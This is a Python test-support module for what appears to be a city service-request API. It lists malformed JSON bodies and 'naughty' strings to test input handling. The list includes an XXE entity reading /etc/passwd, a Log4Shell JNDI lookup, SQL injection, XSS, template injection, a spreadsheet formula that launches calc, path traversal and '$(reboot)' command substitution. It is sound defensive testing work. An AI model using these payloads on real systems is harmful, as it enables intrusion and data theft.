"""Hostile input: a small collection of our own, and two public ones where they lie beside the repository.

JSONTestSuite (`test_parsing/{y,n,i}_*.json`: must be accepted, must be refused, either) and the Big List of Naughty
Strings (`blns.json`) are looked for in `../shared/data/hostile`, or where `HEX311_HOSTILE_DATA` says.
"""

import json
import os
from pathlib import Path

from tests.support.city import ROOT

PLACE = Path(os.environ.get("HEX311_HOSTILE_DATA") or ROOT.parent / "shared" / "data" / "hostile")

#: Bodies that are not one JSON text in UTF-8.
BROKEN: dict[str, bytes] = {
    "nothing": b"",
    "space": b" \n\t",
    "half an object": b'{"lat": 41.3',
    "two texts": b"{}{}",
    "trailing comma": b'{"lat": 41.3,}',
    "comment": b'{"lat": 41.3 /* north */}',
    "single quotes": b"{'lat': 41.3}",
    "NaN": b'{"lat": NaN}',
    "Infinity": b'{"lat": Infinity}',
    "minus Infinity": b"[-Infinity]",
    "hexadecimal": b'{"lat": 0x29}',
    "leading zero": b'{"lat": 041.3}',
    "plus": b'{"lat": +41.3}',
    "beyond a float": b'{"lat": 1e999}',
    "endless integer": b'{"lat": ' + b"9" * 5000 + b"}",
    "raw newline in a text": b'{"address": "a\nb"}',
    "lone surrogate": b'{"address": "\\ud83d"}',
    "surrogates the wrong way": b'{"address": "\\udca9\\ud83d"}',
    "Latin-1": '{"address": "Café"}'.encode("latin-1"),
    "UTF-16": '{"address": "Cafe"}'.encode("utf-16"),
    "UTF-8 with a mark": b"\xef\xbb\xbf{}",
    "overlong UTF-8": b'{"address": "\xc0\xaf"}',
    "surrogate in UTF-8": b'{"address": "\xed\xa0\x80"}',
    "NUL": b"\x00",
    "open brackets": b"[" * 60_000,
    "open objects": b'{"a":' * 10_000,
    "deep": b"[" * 500 + b"]" * 500,
    "form": b"service_code=pothole&lat=41.3",
    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
}

#: Texts that were somebody's program, markup, or trouble.
NAUGHTY: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<b>bold</b> & <i>sloped</i>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE cases; --",
    "${jndi:ldap://example.org/a}",
    "{{7*7}} ${7*7} #{7*7} {0} {city} {__class__}",
    "=cmd|' /C calc'!A0",
    "../../../../etc/passwd%00",
    "$(reboot) `reboot`",
    "null",
    "undefined",
    "NaN",
    "-1E+02",
    "0",
    "\x00in the middle\x00",
    "bell \x07 escape \x1b[31m delete \x7f",
    "line\r\nend\nend\u2028separator\u2029paragraph",
    "\ufeffmark \ufffe \uffff",
    "right \u202e to left, zero\u200bwidth, joined \u200d",
    "Z̴̡̛a̸̧l̷g̶o̵ ́́́́",
    "日本語 العربية עברית ไทย हिन्दी",
    "👩‍👩‍👧‍👦 🏳️‍🌈 💧",
    "İıŞş ß ﬀ Å\u030a",
    "x" * 4000,
    "💧" * 4000,
    " space before and behind \t\n",
)


def naughty_strings() -> list[str]:
    """Our own, and the public list when it is there."""
    there = PLACE / "blns" / "blns.json"
    return [*NAUGHTY, *(json.loads(there.read_text()) if there.exists() else [])]


def json_suite(kinds: str) -> list[Path]:
    """The files of JSONTestSuite whose names begin with one of the letters; none when it is not there."""
    folder = PLACE / "JSONTestSuite"
    return sorted(path for path in folder.glob("test_*/*.json") if path.name[0] in kinds)
